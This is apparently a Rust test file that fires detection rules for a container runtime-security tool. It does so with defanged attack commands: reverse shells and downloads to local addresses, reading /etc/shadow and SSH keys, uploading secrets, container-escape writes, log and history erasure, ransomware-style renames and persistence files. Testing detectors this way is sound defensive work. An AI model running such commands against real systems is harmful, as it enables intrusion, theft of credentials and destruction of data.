//! What is done, rule by rule, in the order of the files.

use std::fs;

use super::{Trigger, connect_to, connect_to_socket, copied, copied_to, over, program, shell, write_over};

/// Rules about events that are reported, which nothing here triggers, and why.
pub(crate) const UNTRIGGERED: [(&str, &str); 6] = [
    ("Root shell without a known way to root", "it takes the session of another user"),
    ("Shell started by a web server", "it takes a parent of that name"),
    ("Shell started by an application server", "it takes a parent of that name"),
    ("Shell started by a database", "it takes a parent of that name"),
    ("Program run that the image did not bring", "it takes an overlay file system; the techniques have one"),
    ("Kernel module loaded from a container", "it takes a module that fits the kernel"),
];

/// The shortest program that the kernel takes: it returns 0.
const LOAD_BPF: &str = r#"
    my $program = "\xb7\0\0\0\0\0\0\0\x95\0\0\0\0\0\0\0";
    my $licence = "GPL\0";
    my $address = sub { unpack("Q", pack("P", $_[0])) };
    my $request = pack("LLQQ", 1, 2, $address->($program), $address->($licence)) . "\0" x 96;
    syscall(321, 5, $request, length $request) >= 0 or die $!;
"#;

/// Takes hold of a child of its own.
const ATTACH: &str = "my $child = fork; if (!$child) { sleep 5; exit } syscall(101, 16, $child, 0, 0); kill 9, $child;";

pub(crate) const TRIGGERS: &[Trigger] = &[
    // Command and control.
    Trigger::new("Network tool runs a program", "Critical", "nc", |stage| {
        stage.named("nc", &["-e", "/bin/true", "127.0.0.1", "9"])
    }),
    Trigger::new("Command line opens a remote shell", "Critical", "sh", |_| {
        shell(": 'sh -i >& /dev/tcp/127.0.0.2/9 0>&1'")
    }),
    // Nobody listens there; the rule leaves out 127.0.0.1 alone of this machine's own addresses.
    Trigger::new("Shell connects to the network", "Warning", "bash", |_| {
        program("bash", &["-c", "exec 3<>/dev/tcp/127.0.0.2/9"])
    }),
    Trigger::new("Download piped into an interpreter", "Warning", "sh", |_| {
        shell(": curl -s http://127.0.0.1:9/x | sh")
    }),
    Trigger::new("Download to a hiding place", "Warning", "curl", |stage| {
        stage.named("curl", &["-o", "/dev/shm/x", "http://127.0.0.1:9/x"])
    }),
    Trigger::new("Tunnel tool started", "Warning", "chisel", |stage| stage.named("chisel", &["client"])),
    // From a file: on the command line it would be known for what it is.
    Trigger::new("Standard stream tied to a connection", "Warning", "perl", |stage| {
        let script = stage.made_path("script");
        fs::write(&script, "use POSIX; socket(S, 2, 2, 0); POSIX::dup2(fileno(S), 0);").unwrap();
        program("perl", &[&script])
    }),
    Trigger::new("Offline command connects to the network", "Warning", "cat", |stage| {
        stage.alias("cat", "/bin/bash", &["-c", "exec 3<>/dev/tcp/127.0.0.2/9"])
    }),
    // Container escape.
    Trigger::new("Kernel helper set from a container", "Critical", "sh", |stage| {
        stage.redirect(">", "cgroup/release_agent").in_pod(&stage.pod)
    })
    .file("cgroup/release_agent"),
    Trigger::new("Host file written from a container", "Warning", "sh", |stage| {
        stage.redirect(">", "etc/cron.d/x").in_pod(&stage.pod)
    })
    .file("etc/cron.d/x"),
    Trigger::new("Host file put in place from a container", "Warning", "mv", |stage| {
        stage.moved("x", "etc/cron.d/y").in_pod(&stage.pod)
    }),
    Trigger::new("Interpreter registered from a container", "Warning", "sh", |stage| {
        stage.redirect(">", "binfmt_misc/register").in_pod(&stage.pod)
    })
    .file("binfmt_misc/register"),
    Trigger::new("Container runtime overwritten from a container", "Critical", "sh", |stage| {
        let runtime = stage.made_path("bin/runc");
        shell(&format!("exec 3<> {runtime}; : > /proc/self/fd/3")).in_pod(&stage.pod)
    }),
    Trigger::new("Cgroup or disk mounted in a container", "Notice", "mount", |stage| {
        let target = stage.made_path("disk");
        fs::write(&target, "").unwrap();
        program("mount", &["--bind", "/dev/null", &target]).in_own_mounts().in_pod(&stage.pod)
    }),
    Trigger::new("User namespace made in a container", "Notice", "unshare", |stage| {
        program("unshare", &["--user", "true"]).in_pod(&stage.pod)
    }),
    Trigger::new("Host entered from a container", "Warning", "nsenter", |stage| {
        stage.named("nsenter", &["-t", "1", "-m", "true"]).in_pod(&stage.pod)
    }),
    Trigger::new("File system debugger run in a container", "Critical", "debugfs", |stage| {
        stage.named("debugfs", &["-V"]).in_pod(&stage.pod)
    }),
    Trigger::new("Container started with the powers of its host", "Warning", "docker", |stage| {
        stage.named("docker", &["run", "--privileged", "x"])
    }),
    Trigger::new("Container runtime controlled from a container", "Notice", "perl", |stage| {
        connect_to_socket(&stage.path("docker.sock")).in_pod(&stage.pod)
    })
    .file("docker.sock"),
    Trigger::new("Disk opened in a container", "Notice", "sh", |stage| over("/dev", "/dev/sdx").in_pod(&stage.pod))
        .file("/dev/sdx"),
    // Credential access.
    Trigger::new("Credential file read", "Warning", "cat", |_| program("cat", &["/etc/shadow"])).file("/etc/shadow"),
    Trigger::new("SSH private key read", "Warning", "cat", |stage| stage.on_file("cat", ".ssh/id_ed25519"))
        .file(".ssh/id_ed25519"),
    Trigger::new("Cloud credentials read with a file tool", "Warning", "cat", |stage| {
        stage.on_file("cat", ".aws/credentials")
    })
    .file(".aws/credentials"),
    Trigger::new("Password store read with a file tool", "Warning", "cat", |stage| stage.on_file("cat", "logins.json"))
        .file("logins.json"),
    Trigger::new("Service account token read with a file tool", "Notice", "cat", |stage| {
        stage.on_file("cat", "serviceaccount/token").in_pod(&stage.pod)
    })
    .file("serviceaccount/token"),
    Trigger::new("Packet socket opened in a container", "Warning", "perl", |stage| {
        program("perl", &["-e", "socket(S, 17, 3, 768) or die $!"]).in_pod(&stage.pod)
    }),
    Trigger::new("Link made to a credential file", "Warning", "ln", |stage| {
        program("ln", &["-s", "/etc/shadow", &stage.made_path("links/innocent")])
    }),
    Trigger::new("Search for private keys", "Warning", "grep", |stage| {
        program("grep", &["-r", "BEGIN OPENSSH PRIVATE KEY", &stage.path("nothing")])
    }),
    Trigger::new("Cloud metadata service contacted", "Warning", "perl", |_| connect_to("169.254.169.254", 80)),
    // Its own, by a path that does not say so.
    Trigger::new("Memory of another process read", "Warning", "sh", |_| shell(": < /proc/$$/mem")),
    Trigger::new("Password cracker started", "Warning", "hashcat", |stage| stage.named("hashcat", &[])),
    // Defense evasion.
    Trigger::new("Program poses as a kernel thread", "Critical", "true", |_| {
        let mut action = program("bash", &["-c", "exec -a '[kworker/0:1]' /bin/true"]);
        "true".clone_into(&mut action.line);
        action
    }),
    Trigger::new("Shell history erased", "Warning", "sh", |stage| stage.redirect(">", ".bash_history"))
        .file(".bash_history"),
    Trigger::new("Shell history switched off", "Warning", "sh", |_| shell(": unset HISTFILE")),
    Trigger::new("System log erased", "Warning", "rm", |_| program("rm", &["-f", "/var/log/there-is-no-such-log"])),
    Trigger::new("Protective service stopped", "Warning", "systemctl", |stage| {
        stage.named("systemctl", &["stop", "auditd"])
    }),
    Trigger::new("Firewall switched off", "Warning", "iptables", |stage| stage.named("iptables", &["-F"])),
    Trigger::new("Kernel protection switched off", "Warning", "aa-teardown", |stage| stage.named("aa-teardown", &[])),
    Trigger::new("Program run from a hidden directory", "Warning", "true", |_| {
        copied(tempfile::Builder::new().prefix(".hidden").tempdir_in("/var/tmp").unwrap(), "true", &[])
    }),
    Trigger::new("BPF program loaded", "Warning", "perl", |_| program("perl", &["-e", LOAD_BPF])),
    Trigger::new("Program run through the dynamic loader", "Warning", "ld-x.so", |_| {
        copied(tempfile::tempdir_in("/tmp").unwrap(), "ld-x.so", &["/tmp/x"])
    }),
    Trigger::new("Library forced into a program", "Warning", "sh", |_| shell(": LD_PRELOAD=/tmp/x.so")),
    Trigger::new("File made unchangeable", "Notice", "chattr", |stage| stage.named("chattr", &["+i", "/nonexistent"])),
    // Discovery.
    Trigger::new("Weakness scanner started", "Warning", "pspy64", |stage| stage.named("pspy64", &[])),
    Trigger::new("Network scanner started", "Warning", "nmap", |stage| stage.named("nmap", &["127.0.0.1"])),
    Trigger::new("Search for setuid programs", "Notice", "find", |stage| {
        program("find", &[&stage.path(""), "-perm", "-4000"])
    }),
    Trigger::new("Cluster asked with a download tool", "Notice", "curl", |stage| {
        stage.named("curl", &["https://kubernetes.default.svc/"]).in_pod(&stage.pod)
    }),
    // Execution.
    Trigger::new("Program run from shared memory", "Critical", "true", |_| copied_to("/dev/shm")),
    Trigger::new("Decoded text piped into an interpreter", "Warning", "sh", |_| shell(": base64 -d | sh")),
    Trigger::new("Interpreter runs encoded code", "Warning", "python3", |stage| {
        stage.named("python3", &["-c", "exec(base64.b64decode(''))"])
    }),
    Trigger::new("Terminal made for a shell by a script", "Warning", "script", |stage| {
        stage.named("script", &["-qc", "/bin/sh", "/dev/null"])
    }),
    // Exfiltration.
    Trigger::new("Secrets uploaded", "Critical", "curl", |stage| {
        stage.named("curl", &["-T", "/nonexistent/.ssh/id_rsa", "http://127.0.0.1:9/"])
    }),
    Trigger::new("Upload to a drop site", "Warning", "curl", |stage| {
        stage.named("curl", &["-T", "x", "https://transfer.sh/x"])
    }),
    Trigger::new("Data sent in names looked up", "Warning", "dig", |stage| {
        stage.named("dig", &[&["0123456789abcdef"; 8].join(".")])
    }),
    Trigger::new("Secrets packed into an archive", "Warning", "zip", |stage| {
        stage.named("zip", &["x.zip", "/nonexistent/.ssh"])
    }),
    Trigger::new("Cloud storage client started", "Notice", "rclone", |stage| stage.named("rclone", &["version"])),
    // Impact.
    Trigger::new("Cryptocurrency miner started", "Critical", "xmrig", |stage| stage.named("xmrig", &[])),
    Trigger::new("Program told to mine cryptocurrency", "Warning", "worker", |stage| {
        stage.named("worker", &["-o", "stratum+tcp://127.0.0.1:9"])
    }),
    Trigger::new("Disk overwritten", "Critical", "blkdiscard", |stage| {
        stage.named("blkdiscard", &["--help", "/dev/sd-there-is-none"])
    }),
    Trigger::new("System files removed", "Critical", "rm", |stage| {
        stage.named("rm", &["--help", "/nonexistent/bin", "/nonexistent/boot", "/nonexistent/x"])
    }),
    Trigger::new("File renamed as ransomware does", "Critical", "mv", |stage| stage.moved("letter", "letter.lockbit")),
    Trigger::new("Ransom note written", "Critical", "sh", |stage| stage.redirect(">", "HOW_TO_DECRYPT.txt"))
        .file("HOW_TO_DECRYPT.txt"),
    Trigger::new("Files encrypted in bulk", "Warning", "parallel", |stage| {
        stage.named("parallel", &["openssl enc -aes-256-cbc"])
    }),
    Trigger::new("Backups removed", "Warning", "borg", |stage| stage.named("borg", &["delete"])),
    // Lateral movement.
    Trigger::new("Attack toolkit started", "Critical", "crackmapexec", |stage| stage.named("crackmapexec", &[])),
    Trigger::new("Kubelet or etcd contacted from a container", "Warning", "perl", |stage| {
        connect_to("127.0.0.2", 10_250).in_pod(&stage.pod)
    }),
    Trigger::new("Cluster client runs commands from a container", "Warning", "kubectl", |stage| {
        stage.named("kubectl", &["exec", "x"]).in_pod(&stage.pod)
    }),
    Trigger::new("SSH client started in a container", "Informational", "ssh", |stage| {
        stage.named("ssh", &["-V"]).in_pod(&stage.pod)
    }),
    Trigger::new("SSH agent used by another program", "Notice", "perl", |_| {
        connect_to_socket("/tmp/ssh-there-is-none/agent.1")
    })
    .file("/tmp/ssh-there-is-none/agent.1"),
    // Persistence.
    Trigger::new("Preload file written", "Critical", "sh", |stage| stage.redirect(">>", "etc/ld.so.preload"))
        .file("etc/ld.so.preload"),
    Trigger::new("Preload file put in place", "Critical", "mv", |stage| stage.moved("list", "etc/ld.so.preload")),
    Trigger::new("Start-up file put in place", "Warning", "mv", |stage| stage.moved("keys", ".ssh/authorized_keys")),
    Trigger::new("Authentication module written", "Critical", "sh", |_| {
        over("/usr/local/lib", "/usr/local/lib/security/pam_x.so")
    })
    .file("/usr/local/lib/security/pam_x.so"),
    Trigger::new("Login settings written", "Warning", "sh", |_| over("/etc", "/etc/pam.d/x")).file("/etc/pam.d/x"),
    Trigger::new("Scheduled job written", "Warning", "sh", |_| over("/etc", "/etc/crontab")).file("/etc/crontab"),
    Trigger::new("Job scheduled by command", "Notice", "at", |stage| stage.named("at", &["now"])),
    Trigger::new("Service definition written", "Warning", "sh", |_| over("/etc", "/etc/systemd/system/x.service"))
        .file("/etc/systemd/system/x.service"),
    Trigger::new("Static pod written", "Warning", "sh", |_| over("/etc", "/etc/kubernetes/manifests/x.yaml"))
        .file("/etc/kubernetes/manifests/x.yaml"),
    Trigger::new("Authorized keys written", "Warning", "sh", |stage| stage.redirect(">>", ".ssh/authorized_keys"))
        .file(".ssh/authorized_keys"),
    Trigger::new("Boot or login hook written", "Warning", "sh", |_| over("/etc", "/etc/rc.local"))
        .file("/etc/rc.local"),
    Trigger::new("Shell startup file written", "Notice", "sh", |stage| stage.redirect(">>", ".bashrc")).file(".bashrc"),
    Trigger::new("Kernel module loaded by hand", "Warning", "insmod", |stage| {
        stage.named("insmod", &["/nonexistent.ko"])
    }),
    Trigger::new("Kernel module file written", "Warning", "sh", |_| over("/etc", "/etc/modules-load.d/x.conf"))
        .file("/etc/modules-load.d/x.conf"),
    Trigger::new("Web server wrote a script", "Warning", "nginx", |stage| {
        stage.alias("nginx", "/bin/sh", &["-c", &write_over("/srv", "/srv/x.php")]).in_own_mounts()
    })
    .file("/srv/x.php"),
    Trigger::new("Account created", "Notice", "useradd", |stage| stage.named("useradd", &["x"])),
    // Privilege escalation.
    Trigger::new("Known local exploit tried", "Critical", "sudoedit", |stage| stage.named("sudoedit", &["-s", "\\"])),
    Trigger::new("Account file written", "Warning", "sh", |_| over("/etc", "/etc/passwd")).file("/etc/passwd"),
    Trigger::new("Sudo rights written", "Warning", "sh", |_| over("/etc", "/etc/sudoers.d/x")).file("/etc/sudoers.d/x"),
    Trigger::new("Account made administrator", "Warning", "usermod", |stage| {
        stage.named("usermod", &["-aG", "sudo", "x"])
    }),
    Trigger::new("Setuid bit set", "Warning", "chmod", |stage| {
        let file = stage.made_path("setuid");
        fs::write(&file, "").unwrap();
        program("chmod", &["u+s", &file])
    }),
    Trigger::new("Strong capability given to a file", "Warning", "setcap", |stage| {
        stage.named("setcap", &["cap_setuid+ep", "/nonexistent"])
    }),
    Trigger::new("Process attached to by no debugger", "Warning", "perl", |_| program("perl", &["-e", ATTACH])),
    Trigger::new("Memory of another process written", "Warning", "sh", |_| shell(": >> /proc/$$/mem")),
    // Whatever it is for.
    Trigger::new("System program written", "Warning", "sh", |_| over("/usr/sbin", "/usr/sbin/x")).file("/usr/sbin/x"),
    Trigger::new("System file put in place", "Warning", "mv", |_| {
        let script = "mount -n -t tmpfs none /usr/sbin && mkdir /usr/sbin/d && exec mv /usr/sbin/d /usr/sbin/e";
        shell(script).with_line("mv /usr/sbin/d /usr/sbin/e").in_own_mounts()
    }),
    Trigger::new("System library written", "Warning", "sh", |_| over("/etc", "/etc/ld.so.conf.d/x.conf"))
        .file("/etc/ld.so.conf.d/x.conf"),
    Trigger::new("Program run from a temporary directory", "Notice", "true", |_| copied_to("/tmp")),
    Trigger::new("Package manager run in a container", "Notice", "apk", |stage| {
        stage.named("apk", &["add", "nmap"]).in_pod(&stage.pod)
    }),
    Trigger::new("Terminal shell in a container", "Notice", "sh", |stage| {
        program("sh", &["-c", ":"]).on_terminal().in_pod(&stage.pod)
    }),
    Trigger::new("File below etc written", "Notice", "sh", |_| over("/etc", "/etc/x.conf")).file("/etc/x.conf"),
];
